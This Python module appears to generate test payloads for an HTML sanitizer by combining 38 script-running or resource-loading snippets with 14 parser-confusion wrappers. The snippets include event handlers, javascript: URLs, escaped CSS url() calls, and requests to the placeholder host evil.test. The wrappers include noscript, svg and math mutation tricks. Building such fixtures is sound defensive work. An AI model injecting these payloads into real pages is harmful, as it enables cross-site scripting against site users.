"""Markup that tries to run, load, hide or send something: variants that we build ourselves.

Each is a thing that would act, inside something that readers of HTML understand differently. Where
it acts it opens a dialog, or asks `evil.test` for something.
"""

from collections.abc import Iterator
from itertools import product
from typing import Final

RUN: Final = "alert(1)"
AWAY: Final = "http://evil.test"

ACTS: Final = (
    f"<script>{RUN}</script>",
    f"<ScRiPt\n>{RUN}</sCrIpT\t>",
    f"<script src={AWAY}/s.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src=x oneRRor="{RUN}" />',
    f"<img/src=x/onerror={RUN}>",
    f"<img src={AWAY}/i.png>",
    f'<img srcset="{AWAY}/a.png 1x">',
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><use href="{AWAY}/u.svg#x"/></svg>',
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src=x onerror={RUN}></video>",
    f"<audio src={AWAY}/a.ogg autoplay></audio>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src={AWAY}/f></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data={AWAY}/o></object>",
    f"<embed src={AWAY}/e>",
    f"<link rel=stylesheet href={AWAY}/l.css>",
    f"<link rel=prefetch href={AWAY}/p>",
    f"<style>@import '{AWAY}/c.css';</style>",
    f'<p style="background:url({AWAY}/b)">x</p>',
    f'<p style="b\\61ckground:ur\\6c({AWAY}/b)">x</p>',
    f'<meta http-equiv=refresh content="0;url={AWAY}/m">',
    f"<base href={AWAY}/>",
    f"<form action={AWAY}/form><button id=main>x</button></form>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
    f'<a href="java&#x0A;script:{RUN}" ping={AWAY}/ping>x</a>',
    f"<marquee onstart={RUN}>x</marquee>",
    f"<template><img src=x onerror={RUN}></template>",
    f'<p class="safety-leave" id="main" onmouseover={RUN}>x</p>',
    f"<isindex type=image src=x onerror={RUN}>",
)

AROUND: Final = (
    "{}",
    "<noscript><p title='</noscript>{}'></noscript>",
    "<svg><style>{}</style></svg>",
    "<math><mtext><table><mglyph><style>{}</style></mglyph></table></mtext></math>",
    "<style><!--</style>{}-->",
    "<!--{}--!>{}",
    "<textarea>{}</textarea><xmp>{}</xmp>",
    "<![CDATA[{}]]>{}",
    "<svg></p><style><a id='</style>{}'>",
    "<table><td>{}</table>{}",
    "<a href='https://ok.example/\"'>{}</a>",
    "&lt;{}&gt; \x00{}",
    "\n\n{}\n\n```\n{}\n```\n",
    "[x]({}) <{}>",
)


def payloads() -> Iterator[str]:
    """Every thing that acts, inside everything; well over five hundred."""
    for around, acts in product(AROUND, ACTS):
        yield around.replace("{}", acts)
